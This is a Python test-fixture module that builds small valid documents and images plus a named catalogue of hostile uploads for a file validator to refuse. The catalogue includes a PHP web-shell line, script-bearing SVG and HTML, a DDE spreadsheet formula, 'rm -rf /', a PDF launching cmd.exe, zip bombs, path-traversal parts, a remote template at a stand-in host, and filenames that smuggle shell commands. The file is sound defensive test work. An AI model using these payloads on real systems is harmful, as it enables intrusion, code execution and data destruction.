"""Files for tests: small whole ones of every accepted kind, and hostile ones by name."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

OFFICE = "application/vnd.openxmlformats-officedocument"
WORD = f"{OFFICE}.wordprocessingml.document.main+xml"
SHEET = f"{OFFICE}.spreadsheetml.sheet.main+xml"
PDF = (
    b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\n"
    b"endobj\nxref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000058 00000 n \n"
    b"trailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n107\n%%EOF\n"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"


def pdf(said: bytes = b"") -> bytes:
    """A whole PDF; `said` makes it another one."""
    return PDF.replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + said + b"\n") if said else PDF


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int = 2, height: int = 2, extra: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    rows = zlib.compress(b"\0" * ((min(width, 10) + 1) * min(height, 10)))
    return b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg(width: int = 2, height: int = 2, comment: bytes = b"") -> bytes:
    said = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    scan = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00" + b"\x12\x34"
    return (
        b"\xff\xd8" + b"\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + said + frame + scan + b"\xff\xd9"
    )


def container(parts: Mapping[str, bytes], *, stored: tuple[str, ...] = (), comment: bytes = b"") -> bytes:
    """A zip with these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            method = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), body, method)
        archive.comment = comment
    return out.getvalue()


def types(main: str = WORD, more: str = "") -> bytes:
    return f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'.encode()


def docx(main: str = WORD, comment: bytes = b"", **more: bytes) -> bytes:
    extra = {name.replace("__", "/").replace("_dot_", "."): body for name, body in more.items()}
    parts = {"[Content_Types].xml": types(main), "word/document.xml": b"<w:document/>", **extra}
    return container(parts, comment=comment)


def with_part(name: str, body: bytes = b"x") -> bytes:
    """A text document with one part more."""
    return container({"[Content_Types].xml": types(), "word/document.xml": b"<w:document/>", name: body})


def xlsx(**more: bytes) -> bytes:
    return container({"[Content_Types].xml": types(SHEET), "xl/workbook.xml": b"<workbook/>", **more})


def odf(kind: str = "text", **more: bytes) -> bytes:
    mime = f"application/vnd.oasis.opendocument.{kind}".encode()
    return container({"mimetype": mime, "content.xml": b"<office/>", **more}, stored=("mimetype",))


WHOLE = {
    "PDF": pdf(),
    "PNG": png(),
    "JPEG": jpeg(),
    "DOCX": docx(),
    "XLSX": xlsx(),
    "ODT": odf(),
    "ODS": odf("spreadsheet"),
}
"""One of each kind that is accepted."""


def patched(content: bytes, place: int, value: bytes) -> bytes:
    return content[:place] + value + content[place + len(value) :]


def lying_sizes() -> bytes:
    """A part of 60 MB of zeros whose headers say that it has ten bytes."""
    content = bytearray(with_part("word/media/flood.bin", b"\0" * 60_000_000))
    size = struct.pack("<I", 60_000_000)
    while (place := bytes(content).find(size)) >= 0:
        content[place : place + 4] = struct.pack("<I", 10)
    return bytes(content)


def locked() -> bytes:
    """Every part marked as locked with a password."""
    content = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = bytes(content).find(mark)
        while place >= 0:
            content[place + offset] |= 1
            place = bytes(content).find(mark, place + 4)
    return bytes(content)


def hostile() -> dict[str, bytes]:
    """Contents that are refused, by what is wrong with them."""
    entity = b'<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'
    macro_types = types(
        f"{OFFICE}.wordprocessingml.document.main+xml",
        "<x ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>",
    )
    remote = (
        b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    )
    return {
        "empty": b"",
        "one byte": b"\0",
        "text": "Hei vaan, tämä on vain tekstiä.".encode(),
        "svg with script": SVG,
        "svg after a declaration": b'<?xml version="1.0"?>' + SVG,
        "html": HTML,
        "html after a mark of order": b"\xef\xbb\xbf" + HTML,
        "xml": b"<?xml version='1.0'?><a/>",
        "javascript": b"alert(1)",
        "windows program": b"MZ" + b"\0" * 200,
        "linux program": b"\x7fELF" + b"\0" * 200,
        "shell script": b"#!/bin/sh\nrm -rf /\n",
        "gif": b"GIF89a" + b"\0" * 40,
        "gif and script": b"GIF89a/*" + HTML + b"*/=1;",
        "tiff": b"II*\0" + b"\0" * 40,
        "bitmap": b"BM" + b"\0" * 60,
        "webp": b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 30,
        "postscript": b"%!PS-Adobe-3.0\n",
        "rich text": rb"{\rtf1 \object}",
        "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "gzip": b"\x1f\x8b\x08" + b"\0" * 40,
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 40,
        "rar": b"Rar!\x1a\x07\0" + b"\0" * 40,
        "csv with a formula": b"=cmd|' /C calc'!A0;1\n",
        "php": b"<?php system($_GET['c']); ?>",
        "pdf cut short": pdf()[:-30],
        "pdf of a head only": b"%PDF-1.7\n",
        "pdf of no version": b"%PDF-x" + pdf()[6:],
        "pdf after junk": b"junk\n" + pdf(),
        "pdf and zip": pdf() + docx(),
        "pdf and html": pdf() + HTML,
        "pdf that is html": pdf(b"<html><script>alert(1)</script>"),
        "pdf that launches": pdf(b"1 0 obj << /S /Launch /F (cmd.exe) >>"),
        "png cut short": png()[:-8],
        "png of a head only": b"\x89PNG\r\n\x1a\n",
        "png and zip": png() + docx(),
        "png and html": png(extra=chunk(b"tEXt", b"Comment\0" + HTML)),
        "png of a false checksum": patched(png(), 29, b"\0\0\0\0"),
        "png of no width": png(0, 5),
        "png of a flood of pixels": png(100_000, 100_000),
        "png that only says so": png(2**31 - 1, 2**31 - 1),
        "png with a chunk beyond its end": patched(png(), 33, b"\x7f\xff\xff\xff"),
        "jpeg cut short": jpeg()[:-2],
        "jpeg of a head only": b"\xff\xd8\xff\xe0",
        "jpeg and zip": jpeg() + docx(),
        "jpeg and html": jpeg(comment=HTML),
        "jpeg and pdf": jpeg(comment=pdf()),
        "jpeg of a flood of pixels": jpeg(65_000, 65_000),
        "jpeg of no height": jpeg(5, 0),
        "jpeg whose segment has no end": b"\xff\xd8\xff\xe0\xff\xff" + b"\0" * 20,
        "jpeg of marks alone": b"\xff\xd8" + b"\xff" * 5000,
        "zip of nothing": container({}),
        "zip of anything": container({"a.txt": b"x"}),
        "program in a zip": container({"setup.exe": b"MZ"}),
        "document with a macro": with_part("word/vbaProject.bin"),
        "document of a kind with macros": container(
            {"[Content_Types].xml": macro_types, "word/document.xml": b"x"}
        ),
        "sheet with a macro": xlsx(**{"xl/vbaProject.bin": b"x"}),
        "sheet with an old macro": xlsx(**{"xl/macrosheets/sheet1.xml": b"x"}),
        "document with a control": with_part("word/activeX/activeX1.xml"),
        "document with an object": with_part("word/embeddings/oleObject1.bin"),
        "document with a program": with_part("word/media/run.exe"),
        "open document with a macro": odf(**{"Basic/Standard/Module1.xml": b"x"}),
        "open document with a script": odf(**{"Scripts/python/run.py": b"x"}),
        "document with a foreign template": with_part("word/_rels/settings.xml.rels", remote),
        "document with entities": with_part("word/footer.xml", entity),
        "part outside the document": with_part("../../etc/cron.d/x"),
        "part at the root": with_part("/etc/passwd"),
        "part of another disk": with_part("C:evil.txt"),
        "bomb": with_part("word/media/flood.bin", b"\0" * 60_000_000),
        "bomb that lies": lying_sizes(),
        "too many parts": container(
            {f"p{number}": b"" for number in range(3_500)} | {"[Content_Types].xml": types()}
        ),
        "document locked": locked(),
        "document cut short": docx()[:-30],
        "document of a spoilt part": patched(docx(), 60, b"\xff\xff\xff\xff\xff\xff"),
        "document after junk": b"PK\x03\x04junk" + docx(),
        "document before junk": docx() + b"junk",
        "document with a comment": docx(comment=b"%PDF-1.7"),
        "document that is a pdf": container(
            {"%PDF-1.7": b"", "[Content_Types].xml": types(), "word/document.xml": b""}
        ),
        "document without its text": container({"[Content_Types].xml": types()}),
        "template of a document": container(
            {"mimetype": b"application/vnd.oasis.opendocument.text-template", "content.xml": b"x"}
        ),
        "presentation": odf("presentation"),
        "epub": container({"mimetype": b"application/epub+zip", "content.xml": b"x"}),
        "signed java": container({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}),
    }


NAMES = {
    "../../../etc/passwd": "passwd",
    "..\\..\\windows\\system32\\cmd.exe": "cmd",
    "/etc/shadow": "shadow",
    "C:\\Users\\me\\budget.pdf": "budget",
    "report.pdf.exe": "report",
    "invoice\u202efdp.exe": "invoicefdp",
    "zero\u200bwidth.pdf": "zerowidth",
    "new\nline\r\nSet-Cookie: a=b.pdf": "Set-Cookie",
    "nul\x00byte.pdf": "nulbyte",
    'quote"; filename="evil.html': "quote",
    "<img src=x onerror=alert(1)>.pdf": "img src",
    "%2e%2e%2fetc%2fpasswd.pdf": "2e_2e_2fetc",
    "...": "file",
    ".htaccess": "htaccess",
    " .pdf": "file",
    "con.pdf": "_con",
    "LPT1": "_LPT1",
    "-rf.pdf": "rf",
    "$(reboot).pdf": "reboot",
    "`id`.pdf": "id",
    "a" * 400 + ".pdf": "aaa",
    "päätös ja bilaga ÅÄÖ.pdf": "päätös ja bilaga ÅÄÖ",
    "Budget 2.5.2027.pdf": "Budget 2.5.2027",
    "\u202e\u2066\u200f": "file",
    "смета проекта.pdf": "смета проекта",
    "e\u0301tude.pdf": "étude",
}
"""Names as sent, and what the name kept begins with."""
